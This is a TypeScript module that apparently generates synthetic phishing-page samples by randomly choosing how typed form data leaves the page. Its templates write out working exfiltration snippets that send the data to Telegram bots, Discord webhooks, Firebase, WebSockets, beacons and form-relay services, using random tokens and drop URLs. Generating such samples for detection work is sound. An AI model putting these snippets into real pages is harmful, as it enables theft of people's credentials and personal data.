import type { Chance } from '../../make/chance.ts'
import { quoted } from '../code/tree.ts'
import { dropUrl } from './places.ts'

/** How what is typed leaves the page: by the form itself, or by a script that is called when it is sent. */
export interface Sink {
  readonly action: string | null
  /** Statements in which `data` is an object of what was typed. */
  readonly send: string
}

const formOnly = (action: string): Sink => ({ action, send: '' })
const byScript = (send: string): Sink => ({ action: null, send })

const OWN = [
  'post.php',
  'login.php',
  'send.php',
  'next.php',
  'action.php',
  'submit.php',
  'process/step1.php',
  'inc/send.php',
  'mailer.php',
  'verification.php',
  'result.php',
]

const telegram = (chance: Chance) => {
  const token = `${chance.digits(10)}:AA${chance.base64(33).replace(/[+/]/g, '_')}`
  return `fetch("https://api.telegram.org/bot${token}/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"-100${chance.digits(10)}",text:Object.keys(data).map(function(k){return k+": "+data[k]}).join("\\n")})});`
}

/** Services that take what any form sends them. */
const service = (chance: Chance) =>
  chance.of([
    () => `https://formspree.io/f/${chance.letters(8)}`,
    () => `https://formsubmit.co/${chance.hex(32)}`,
    () => `https://getform.io/f/${chance.hex(8)}-${chance.hex(4)}`,
    () => `https://submit-form.com/${chance.letters(9)}`,
    () => 'https://api.web3forms.com/submit',
    () => `https://script.google.com/macros/s/AKfycb${chance.letters(50)}/exec`,
    () => `https://usebasin.com/f/${chance.hex(12)}`,
  ])()

export function sinkOf(chance: Chance): Sink {
  return chance.of<() => Sink>([
    () => formOnly(`${chance.of(OWN)}${chance.maybe(0.3) ? `?${chance.letters(4)}=${chance.hex(20)}` : ''}`),
    () => formOnly(chance.of(OWN)),
    () => formOnly(dropUrl(chance)),
    () => formOnly(service(chance)),
    () => byScript(telegram(chance)),
    () => byScript(telegram(chance)),
    () =>
      byScript(
        `fetch(${quoted(dropUrl(chance))},{method:"POST",mode:"no-cors",headers:{"Content-Type":"text/plain"},body:JSON.stringify(data)});`,
      ),
    () =>
      byScript(
        `var x=new XMLHttpRequest();x.open("POST",${quoted(chance.maybe(0.5) ? dropUrl(chance) : chance.of(OWN))},true);x.setRequestHeader("Content-type","application/x-www-form-urlencoded");x.send(Object.keys(data).map(function(k){return encodeURIComponent(k)+"="+encodeURIComponent(data[k])}).join("&"));`,
      ),
    () => byScript(`navigator.sendBeacon(${quoted(dropUrl(chance))},JSON.stringify(data));`),
    () =>
      byScript(
        `(new Image).src=${quoted(`${dropUrl(chance)}?d=`)}+btoa(unescape(encodeURIComponent(JSON.stringify(data))));`,
      ),
    () =>
      byScript(
        `try{var ws=new WebSocket("wss://${new URL(dropUrl(chance)).host}/ws");ws.onopen=function(){ws.send(JSON.stringify({type:"data",id:"${chance.hex(8)}",payload:data}))}}catch(e){}`,
      ),
    () =>
      byScript(
        `fetch("https://discord.com/api/webhooks/${chance.digits(19)}/${chance.letters(68)}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({content:"\`\`\`"+JSON.stringify(data,null,1)+"\`\`\`"})});`,
      ),
    () =>
      byScript(
        `fetch("https://${chance.name(3)}-${chance.hex(5)}-default-rtdb.firebaseio.com/logs.json",{method:"POST",body:JSON.stringify(data)});`,
      ),
    () =>
      byScript(
        `var f=new FormData();for(var k in data)f.append(k,data[k]);fetch(${quoted(service(chance))},{method:"POST",body:f});`,
      ),
  ])()
}
